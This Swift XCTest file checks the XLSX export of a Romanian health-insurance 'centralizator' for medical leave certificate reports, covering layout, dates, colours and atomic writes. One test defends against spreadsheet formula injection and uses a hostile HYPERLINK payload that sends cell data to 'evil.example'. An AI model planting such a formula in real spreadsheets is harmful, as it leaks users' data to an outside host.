@testable import CCMApp
import CCMCore
@testable import CCMPublishing
@testable import CCMRuntime
import CCMTestSupport
import Foundation
#if canImport(FoundationXML)
import FoundationXML
#endif
import XCTest

/// `centralizer --format xlsx` (`04-outputs.md` §1): the workbook is written, then read back by
/// unzipping it and parsing its XML parts, the way any spreadsheet program would.
final class CentralizerXLSXTests: XCTestCase {
    var folder: URL!

    override func setUpWithError() throws {
        folder = FileManager.default.temporaryDirectory.appendingPathComponent("ccm-xlsx-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
    }

    override func tearDownWithError() throws {
        if let folder { try? FileManager.default.removeItem(at: folder) }
    }

    // MARK: - Fixture

    static let reportedAt = Bucharest.instant(LocalDate(year: 2026, month: 11, day: 10)!, hour: 9, minute: 20, second: 0)
    static let asOf = Bucharest.instant(LocalDate(year: 2026, month: 11, day: 14)!, hour: 10, minute: 0, second: 0)

    static func provider(_ cui: String, _ name: String, _ conv: String) -> Provider {
        Provider(cui: cui, denumire: name, casa: "TM", nrConventie: conv, conventieDeLa: LocalDate(year: 2026, month: 1, day: 1)!,
                 conventiePanaLa: nil, email: nil, tip: .mf)
    }

    static func sample() -> Centralizer {
        let months = [
            ProviderMonth(provider: provider("14186770", "Cabinet Medical Dr. Ștefănescu Țiței SRL", "0042"),
                          hasRegisteredInitial: true, certificates: 12, certificatesWithErrors: 0, errors: [],
                          lastReport: reportedAt, observations: ["Raportare depusă după termen (W01)"]),
            ProviderMonth(provider: provider("4663448", "Spitalul Județean de Urgență „Pius Brînzeu” Timișoara", "S-7/2026"),
                          hasRegisteredInitial: true, certificates: 40, certificatesWithErrors: 2,
                          errors: [
                              CertificateErrorLine(serie: "CCMAD", numar: "1234567", code: "C01",
                                                   message: "CNP-ul asiguratului 1********** nu este valid"),
                              CertificateErrorLine(serie: "CCMAD", numar: "1234567", code: "C04",
                                                   message: "Perioada de concediu nu este coerentă cu data acordării"),
                              CertificateErrorLine(serie: "CCMAE", numar: "0007654", code: "C06",
                                                   message: "Certificat acordat retroactiv în afara termenului (îngrijire copil bolnav)"),
                          ],
                          lastReport: reportedAt.addingTimeInterval(3600),
                          observations: ["Raportare depusă după termen (W01)", "Fișier RESPINS anterior: F03 semnătură invalidă"],
                          refusals: [replacedFile]),
            ProviderMonth(provider: provider("18547290", "Policlinica Medica & Fiii <Âmbulator> Arad", "0099"),
                          hasRegisteredInitial: false, certificates: 0, certificatesWithErrors: 0, errors: [],
                          lastReport: nil, observations: ["Ultimul fișier RESPINS: F03 semnătură electronică invalidă"],
                          refusals: [refusedFile]),
            ProviderMonth(provider: provider("30211455", "Întreprinderea Medicală Mâțu SRL", "0100"),
                          hasRegisteredInitial: false, certificates: 0, certificatesWithErrors: 0, errors: [],
                          lastReport: nil, observations: []),
        ]
        return Centralizer(casa: "TM", luna: YearMonth(year: 2026, month: 10)!, asOf: asOf, months: months, house: timis)
    }

    static let timis = HealthInsuranceHouse(code: "TM", fullName: "Casa de Asigurări de Sănătate Timiș", shortName: "CAS Timiș")
    /// Refused twice (two reasons) and still without a registered report.
    static let refusedFile = RefusedFile(fileName: "CCM_18547290_202610_I_1.xml", receivedAt: reportedAt.addingTimeInterval(-86_400),
                                         reasons: [FileReason(code: "F03", message: "semnătura electronică nu este validă"),
                                                   FileReason(code: "F08", message: "totalurile nu corespund certificatelor")],
                                         superseded: false)
    /// Refused before the report that was registered.
    static let replacedFile = RefusedFile(fileName: "CCM_4663448_202610_I_1.xml", receivedAt: reportedAt.addingTimeInterval(-3600),
                                          reasons: [FileReason(code: "F02", message: "fișierul nu respectă schema")], superseded: true)

    // MARK: - Tests

    func testWorkbookReadsBack() throws {
        let c = Self.sample()
        XCTAssertEqual(Set(c.rows.map(\.stage)), Set(Stage.allCases), "the fixture covers every stage")
        let path = folder.appendingPathComponent("centralizator-TM-2026-10.xlsx").path
        try CentralizerXLSX.write(c, to: path)

        let book = try XLSXBook(path)
        XCTAssertEqual(book.sheetNames, ["Centralizator", "Erori"])

        // Main sheet: title rows, the header on row 3, one row per provider.
        let main = try book.sheet("Centralizator")
        let title = main.string("A1")
        XCTAssertEqual(title, "Tabel centralizator – Casa de Asigurări de Sănătate Timiș – luna octombrie 2026")
        let info = main.string("A2")
        XCTAssertTrue(info.hasPrefix("Ediția din 14.11.2026 · "), info)
        XCTAssertTrue(info.contains("14.11.2026 10:00"), info)
        let core = try XLSXBook.part(path, "docProps/core.xml")
        XCTAssertEqual(core.first("dc:title")?.text ?? core.first("title")?.text, "Tabel centralizator CAS Timiș, luna 2026-10, Ediția din 14.11.2026")
        XCTAssertEqual(core.first("dc:creator")?.text ?? core.first("creator")?.text, "Casa de Asigurări de Sănătate Timiș")
        XCTAssertTrue(info.contains("VALIDAT: 1") && info.contains("CU ERORI: 1") && info.contains("FĂRĂ RAPORTARE: 2"), info)

        let headerRow = 3
        XCTAssertEqual(main.rowStrings(headerRow, columns: 10), CentralizerCSV.columns)
        XCTAssertEqual(main.rowStrings(headerRow, columns: 10),
                       ["Nr. crt.", "CUI", "Denumire furnizor", "Nr. convenție", "Stadiu procesare",
                        "Nr. certificate raportate", "Nr. certificate cu erori", "Descrierea erorilor",
                        "Data ultimei raportări", "Observații"])
        XCTAssertEqual(main.lastRow, headerRow + c.rows.count, "one row per provider, nothing after")
        XCTAssertTrue(book.wraps(style: main.style("F\(headerRow)")), "long header titles wrap")

        for (i, r) in c.rows.enumerated() {
            let n = headerRow + 1 + i
            XCTAssertEqual(main.number("A\(n)"), Double(r.nrCrt))
            XCTAssertEqual(main.string("B\(n)"), r.cui)
            XCTAssertEqual(main.string("C\(n)"), r.denumire)
            XCTAssertEqual(main.string("D\(n)"), r.nrConventie)
            XCTAssertEqual(main.string("E\(n)"), r.stage.rawValue)
            XCTAssertEqual(main.number("F\(n)"), Double(r.nrCertificate), "counts are numbers, not text")
            XCTAssertEqual(main.number("G\(n)"), Double(r.nrCertificateCuErori))
            XCTAssertEqual(main.string("H\(n)"), r.errorDescription.joined(separator: "\n"))
            if let d = r.lastReport {
                let serial = try XCTUnwrap(main.number("I\(n)"), "the last report is an Excel date")
                XCTAssertEqual(serial, Self.excelSerial(d), accuracy: 1e-6)
                XCTAssertTrue(book.numberFormat(ofStyle: main.style("I\(n)")).contains("dd.mm.yyyy"))
            } else {
                XCTAssertEqual(main.string("I\(n)"), "")
            }
            XCTAssertEqual(main.string("J\(n)"), r.notes.map(\.written).joined(separator: "\n"))

            // The stage cell is coloured as on the HTML page, with dark text.
            let style = main.style("E\(n)")
            let expectedFill = ["VALIDAT": "D1E7DD", "CU ERORI": "F8D7DA", "FĂRĂ RAPORTARE": "FFF3CD"][r.stage.rawValue]
            XCTAssertEqual(expectedFill, String(StagePalette.colours(r.stage).fill, radix: 16).uppercased(), "one palette")
            XCTAssertTrue(CentralizerHTML.css.contains(StagePalette.css(StagePalette.colours(r.stage).fill)), "the page's palette")
            XCTAssertEqual(book.fill(ofStyle: style), expectedFill, "fill of \(r.stage.rawValue)")
            let font = try XCTUnwrap(book.fontColor(ofStyle: style))
            XCTAssertLessThan(Self.luminance(font), 0.2, "dark text on the stage cell: \(font)")
        }
        // Diacritics and XML-special characters survive.
        let names = (1...c.rows.count).map { main.string("C\(headerRow + $0)") }
        XCTAssertTrue(names.contains("Cabinet Medical Dr. Ștefănescu Țiței SRL"))
        XCTAssertTrue(names.contains("Policlinica Medica & Fiii <Âmbulator> Arad"))
        XCTAssertTrue(names.contains("Întreprinderea Medicală Mâțu SRL"))
        let spital = try XCTUnwrap(c.rows.firstIndex { $0.cui == "4663448" }) + headerRow + 1
        XCTAssertEqual(main.string("H\(spital)"),
                       "CCMAD 1234567: C01 CNP-ul asiguratului 1********** nu este valid; C04 Perioada de concediu nu este coerentă cu data acordării\n"
                       + "CCMAE 0007654: C06 Certificat acordat retroactiv în afara termenului (îngrijire copil bolnav)")
        XCTAssertTrue(book.wraps(style: main.style("H\(spital)")), "error descriptions wrap")
        XCTAssertTrue(book.wraps(style: main.style("J\(spital)")), "observations wrap")

        // Frozen below the header, autofilter on the header, column widths set.
        let pane = try XCTUnwrap(main.pane, "no <pane> in sheet1.xml")
        XCTAssertEqual(pane["state"], "frozen")
        XCTAssertEqual(pane["ySplit"], "\(headerRow)")
        XCTAssertEqual(pane["topLeftCell"].map { $0.hasSuffix("\(headerRow + 1)") }, true, "\(pane)")
        XCTAssertEqual(main.autoFilter, "A\(headerRow):J\(headerRow + c.rows.count)")
        XCTAssertEqual(main.columnWidths.count, 10, "every column has a width")
        XCTAssertGreaterThan(main.columnWidths[7] ?? 0, 40, "the error description column is wide")

        // The superseded refusal says so in Observații.
        let spitalNotes = main.string("J\(try XCTUnwrap(c.rows.firstIndex { $0.cui == "4663448" }) + headerRow + 1)")
        XCTAssertTrue(spitalNotes.hasSuffix("Fișier respins CCM_4663448_202610_I_1.xml (10.11.2026 08:20): F02 fișierul nu respectă schema (înlocuit de o raportare înregistrată ulterior)"), spitalNotes)

        // Errors sheet: one row per certificate error, then one per reason of a refused file.
        let errors = try book.sheet("Erori")
        XCTAssertEqual(errors.rowStrings(1, columns: 9), ["CUI", "Denumire furnizor", "Serie", "Număr", "Cod", "Mesaj", "Fișier respins", "Primit la", "Observații"])
        var expected: [[String]] = []
        for r in c.rows {
            expected += r.errors.map { [r.cui, r.denumire, $0.serie, $0.numar, $0.code, $0.message, "", "", ""] }
            for f in r.refusals {
                expected += f.reasons.map { [r.cui, r.denumire, "", "", $0.code, $0.message, f.fileName, "",
                                             f.superseded ? "înlocuit de o raportare înregistrată ulterior" : ""] }
            }
        }
        XCTAssertEqual(expected.count, 6, "3 certificate errors, 2 reasons of a refused file, 1 of a replaced one")
        XCTAssertEqual(errors.lastRow, 1 + expected.count)
        for (i, e) in expected.enumerated() {
            var got = errors.rowStrings(2 + i, columns: 9)
            if !e[6].isEmpty {
                let serial = try XCTUnwrap(errors.number("H\(2 + i)"), "the receipt time is an Excel date")
                let file = try XCTUnwrap(c.rows.flatMap(\.refusals).first { $0.fileName == e[6] })
                XCTAssertEqual(serial, Self.excelSerial(try XCTUnwrap(file.receivedAt)), accuracy: 1e-6)
                got[7] = ""
            }
            XCTAssertEqual(got, e)
        }
        XCTAssertEqual(errors.pane?["state"], "frozen")
        XCTAssertEqual(errors.pane?["ySplit"], "1")
        XCTAssertEqual(errors.autoFilter, "A1:I7")

        // Only the workbook is left in the folder: the temporary file was renamed.
        XCTAssertEqual(try FileManager.default.contentsOfDirectory(atPath: folder.path), ["centralizator-TM-2026-10.xlsx"])

        try openWithLibreOfficeIfInstalled(path, expecting: ["4663448", "FĂRĂ RAPORTARE", "Ștefănescu Țiței"])
    }

    /// A last report in the hour repeated when summer time ends stays a date-time cell (it
    /// sorts with the others) whose format shows its offset; any other keeps the plain format.
    func testALastReportInTheRepeatedHourShowsItsOffset() throws {
        let provider = Self.provider("31001235", "CMI Dr. Popescu Ana", "CV-1")
        let at = { (iso: String) in ISO8601DateFormatter().date(from: iso)! }
        let months = [("2026-10-25T00:30:00Z", "31001235"), ("2026-10-25T01:30:00Z", "42005674"), ("2026-10-25T02:30:00Z", "18273645")].map { iso, cui in
            var p = provider
            p.cui = cui
            return ProviderMonth(provider: p, hasRegisteredInitial: true, certificates: 1, certificatesWithErrors: 0, errors: [],
                                 lastReport: at(iso), observations: [])
        }
        let c = Centralizer(casa: "TM", luna: YearMonth("2026-09")!, asOf: at("2026-10-26T06:00:00Z"), months: months)
        let path = folder.appendingPathComponent("ora-repetata.xlsx").path
        try CentralizerXLSX.write(c, to: path)
        let book = try XLSXBook(path)
        let main = try book.sheet("Centralizator")
        var formats: [String: String] = [:]
        for row in 4...6 {
            let cui = main.string("B\(row)")
            formats[cui] = book.numberFormat(ofStyle: main.style("I\(row)"))
            XCTAssertNotNil(main.number("I\(row)"), "I\(row) is a date-time, not text")
        }
        XCTAssertEqual(formats["31001235"], "dd.mm.yyyy hh:mm \" (+03:00)\"")
        XCTAssertEqual(formats["42005674"], "dd.mm.yyyy hh:mm \" (+02:00)\"")
        XCTAssertEqual(formats["18273645"], "dd.mm.yyyy hh:mm")
    }

    func testOverwritesAtomicallyAndHandlesAnEmptyMonth() throws {
        let path = folder.appendingPathComponent("c.xlsx").path
        try Data("not a workbook".utf8).write(to: URL(fileURLWithPath: path))
        let empty = Centralizer(casa: "AR", luna: YearMonth(year: 2026, month: 1)!, asOf: Self.asOf, months: [])
        try CentralizerXLSX.write(empty, to: path)
        let book = try XLSXBook(path)
        XCTAssertEqual(book.sheetNames, ["Centralizator", "Erori"])
        let main = try book.sheet("Centralizator")
        XCTAssertTrue(main.string("A1").contains("ianuarie 2026"))
        XCTAssertEqual(main.rowStrings(3, columns: 10), CentralizerCSV.columns)
        XCTAssertEqual(main.lastRow, 3)
        XCTAssertEqual(main.pane?["ySplit"], "3")
        XCTAssertEqual(try book.sheet("Erori").lastRow, 1)
        XCTAssertEqual(try FileManager.default.contentsOfDirectory(atPath: folder.path), ["c.xlsx"])
    }

    func testMissingDirectoryIsAnErrorNotACrash() throws {
        let path = folder.appendingPathComponent("nu-exista/c.xlsx").path
        XCTAssertThrowsError(try CentralizerXLSX.write(Self.sample(), to: path)) { error in
            XCTAssertTrue(error is CentralizerXLSXError, "\(type(of: error))")
            XCTAssertTrue("\(error)".contains("nu pot scrie"), "\(error)")
        }
        XCTAssertFalse(FileManager.default.fileExists(atPath: path))
    }

    func testAFailedRenameLeavesNoTemporaryFile() throws {
        let blocked = folder.appendingPathComponent("ocupat.xlsx")
        try FileManager.default.createDirectory(at: blocked.appendingPathComponent("x"), withIntermediateDirectories: true)
        XCTAssertThrowsError(try CentralizerXLSX.write(Self.sample(), to: blocked.path)) { error in
            XCTAssertTrue("\(error)".contains("nu pot muta"), "\(error)")
        }
        XCTAssertEqual(try FileManager.default.contentsOfDirectory(atPath: folder.path), ["ocupat.xlsx"], "no temporary file left")
    }

    func testOverlongCellsAreCutNotRefused() throws {
        let many = (0..<3000).map {
            CertificateErrorLine(serie: "CCMAD", numar: String(format: "%07d", $0), code: "C04",
                                 message: "Perioada de concediu nu este coerentă cu data acordării")
        }
        let c = Centralizer(casa: "TM", luna: YearMonth(year: 2026, month: 10)!, asOf: Self.asOf, months: [
            ProviderMonth(provider: Self.provider("4663448", "Spitalul Județean", "1"), hasRegisteredInitial: true,
                          certificates: 3000, certificatesWithErrors: 3000, errors: many, lastReport: Self.reportedAt,
                          observations: []),
        ])
        let path = folder.appendingPathComponent("mare.xlsx").path
        try CentralizerXLSX.write(c, to: path)
        let book = try XLSXBook(path)
        let description = try book.sheet("Centralizator").string("H4")
        XCTAssertLessThanOrEqual(description.utf8.count, 32_767)
        XCTAssertTrue(description.hasPrefix("CCMAD 0000000: C04 Perioada"), String(description.prefix(80)))
        XCTAssertTrue(description.hasSuffix("(lista completă în foaia Erori)"), String(description.suffix(80)))
        XCTAssertEqual(try book.sheet("Erori").lastRow, 3001, "the Erori sheet has every error")
    }

    /// A provider name or convention number shaped like a formula lands as a string cell: no
    /// `<f>` element in any sheet, the text itself in the shared strings (libxlsxwriter keeps it so).
    func testFormulaShapedTextStaysText() throws {
        let hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")"
        let c = Centralizer(casa: "TM", luna: YearMonth(year: 2026, month: 10)!, asOf: Self.asOf, months: [
            ProviderMonth(provider: Self.provider("31001235", hyperlink, "+1"), hasRegisteredInitial: true,
                          certificates: 1, certificatesWithErrors: 1,
                          errors: [CertificateErrorLine(serie: "CCMAM", numar: "4400100", code: "C01", message: "@SUM(A1:A9)")],
                          lastReport: Self.reportedAt, observations: ["-1+1"]),
            ProviderMonth(provider: Self.provider("42005674", "@A1", "=1+1"), hasRegisteredInitial: false,
                          certificates: 0, certificatesWithErrors: 0, errors: [], lastReport: nil, observations: []),
        ])
        let path = folder.appendingPathComponent("formule.xlsx").path
        try CentralizerXLSX.write(c, to: path)
        let book = try XLSXBook(path)
        for name in book.sheetNames {
            let xml = try book.sheetXML(name)
            XCTAssertEqual(xml.all("f").count, 0, "a formula in sheet \(name)")
            for cell in xml.all("c") where cell.first("v") != nil || cell.first("is") != nil {
                let text = cell.first("v")?.text ?? ""
                if Double(text) == nil || cell.attrs["t"] != nil {
                    XCTAssertTrue(["s", "inlineStr"].contains(cell.attrs["t"] ?? ""), "cell \(cell.attrs) is not a string")
                }
            }
        }
        let main = try book.sheet("Centralizator")
        let rows = (4...5).map { main.rowStrings($0, columns: 10) }
        XCTAssertEqual(rows.first { $0[1] == "31001235" }?[2], hyperlink)
        XCTAssertEqual(rows.first { $0[1] == "31001235" }?[3], "+1")
        XCTAssertEqual(rows.first { $0[1] == "42005674" }?[2], "@A1")
        XCTAssertEqual(rows.first { $0[1] == "42005674" }?[3], "=1+1")
        XCTAssertTrue(book.sharedStrings.contains(hyperlink))
        XCTAssertTrue(try book.sheet("Erori").rowStrings(2, columns: 6).contains { $0.contains("@SUM(A1:A9)") })
    }

    // MARK: - Helpers

    /// Excel's serial date (days since 1899-12-30) of the Bucharest wall-clock time of an instant.
    static func excelSerial(_ d: Date) -> Double {
        var local = Calendar(identifier: .gregorian)
        local.timeZone = Bucharest.timeZone
        let p = local.dateComponents([.year, .month, .day, .hour, .minute, .second], from: d)
        var utc = Calendar(identifier: .gregorian)
        utc.timeZone = TimeZone(identifier: "UTC")!
        let wall = utc.date(from: DateComponents(year: p.year, month: p.month, day: p.day, hour: p.hour, minute: p.minute, second: p.second))!
        let epoch = utc.date(from: DateComponents(year: 1899, month: 12, day: 30))!
        return wall.timeIntervalSince(epoch) / 86_400
    }

    /// Relative luminance of an `RRGGBB` or `AARRGGBB` colour.
    static func luminance(_ hex: String) -> Double {
        let v = Int(hex.suffix(6), radix: 16) ?? 0xFFFFFF
        func lin(_ c: Int) -> Double { let s = Double(c) / 255; return s <= 0.03928 ? s / 12.92 : pow((s + 0.055) / 1.055, 2.4) }
        return 0.2126 * lin((v >> 16) & 0xFF) + 0.7152 * lin((v >> 8) & 0xFF) + 0.0722 * lin(v & 0xFF)
    }

    /// Optional: LibreOffice converts the first sheet to CSV; skipped when it is not installed.
    func openWithLibreOfficeIfInstalled(_ path: String, expecting needles: [String]) throws {
        let candidates = ["/usr/bin/soffice", "/usr/bin/libreoffice", "/usr/local/bin/soffice", "/opt/libreoffice/program/soffice"]
        guard let soffice = candidates.first(where: { FileManager.default.isExecutableFile(atPath: $0) }) else {
            print("CentralizerXLSXTests: soffice lipsește, verificarea cu LibreOffice a fost omisă")
            return
        }
        let out = folder.appendingPathComponent("lo-out")
        let profile = folder.appendingPathComponent("lo-profile")
        try FileManager.default.createDirectory(at: out, withIntermediateDirectories: true)
        var env = ProcessInfo.processInfo.environment
        env["HOME"] = folder.path
        let r = try Subprocess.run(soffice, ["-env:UserInstallation=file://\(profile.path)", "--headless", "--norestore",
                                             "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir", out.path, path],
                                   environment: env)
        XCTAssertEqual(r.status, 0, r.output)
        let csvPath = out.appendingPathComponent(URL(fileURLWithPath: path).deletingPathExtension().lastPathComponent + ".csv")
        let csv = try String(contentsOf: csvPath, encoding: .utf8)
        for n in needles { XCTAssertTrue(csv.contains(n), "LibreOffice does not show \(n):\n\(csv)") }
    }
}
